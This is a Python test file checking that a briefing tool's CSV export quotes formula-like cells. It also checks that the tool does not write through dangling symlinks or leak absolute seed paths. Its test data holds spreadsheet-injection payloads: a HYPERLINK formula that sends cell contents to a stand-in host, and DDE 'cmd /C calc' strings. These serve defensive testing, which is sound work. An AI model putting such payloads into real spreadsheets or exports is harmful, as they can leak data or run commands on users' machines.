"""Issue 10, smaller findings: safe exports. CSV cells cannot run as spreadsheet formulas,
`init` never writes through a dangling symlink, no absolute seeds path reaches the PDF."""

from __future__ import annotations

import csv
import io
import logging
import sys
from pathlib import Path

import pytest

from briefing.tables import csv_safe, table_csv, trade_frame

sys.path.insert(0, str(Path(__file__).parent))
from test_tables import briefing, row  # noqa: E402


@pytest.mark.parametrize(
    "cell, safe",
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("-3300000000", "-3300000000"),
        ("-12.50", "-12.50"),
        ("a.txt", "a.txt"),
        ("", ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(cell, safe):
    assert csv_safe(cell) == safe


def test_a_hostile_file_name_is_inert_in_the_csv():
    b = briefing([row("2020", 29.5e9, 13.1e9, 16.4e9, ('=HYPERLINK("http://x.example","a").txt', "b.txt"))])
    (line,) = csv.DictReader(io.StringIO(table_csv(trade_frame(b))))
    assert line["sources"].startswith("'=HYPERLINK(")
    assert line["balance"] == "-3300000000"  # numbers stay numbers


def test_init_does_not_write_through_a_dangling_symlink(tmp_path, caplog):
    from briefing.scaffold import init_project

    outside = tmp_path / "outside" / "stolen.toml"
    outside.parent.mkdir()
    project = tmp_path / "project"
    project.mkdir()
    (project / "briefing.toml").symlink_to(outside)
    with caplog.at_level(logging.WARNING, logger="briefing"):
        created, kept = init_project(project)
    assert not outside.exists()
    assert project / "briefing.toml" in kept
    assert "briefing.toml: a symbolic link to a missing file" in caplog.text.replace(str(project) + "/", "")
    assert (project / "seeds" / "README").is_file()


def test_no_absolute_seeds_path_in_skipped_reasons(tmp_path, monkeypatch):
    from briefing.build import Options, collect

    seeds = (tmp_path / "seeds").absolute()
    seeds.mkdir()
    (seeds / "good.txt").write_text("Oslo, 3 March 2021: Norway and Portugal agreed to widen fisheries cooperation.\n")
    (seeds / "gone.txt").write_text("Oslo, 4 March 2021: Norway and Portugal met again.\n")
    real = Path.read_bytes

    def vanishing(self):
        if self.name == "gone.txt":
            raise FileNotFoundError(2, "No such file or directory", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", vanishing)
    result = collect(Options(seeds=seeds))
    assert result.skipped == ("gone.txt: No such file or directory",)
    assert str(tmp_path) not in " ".join(result.skipped)
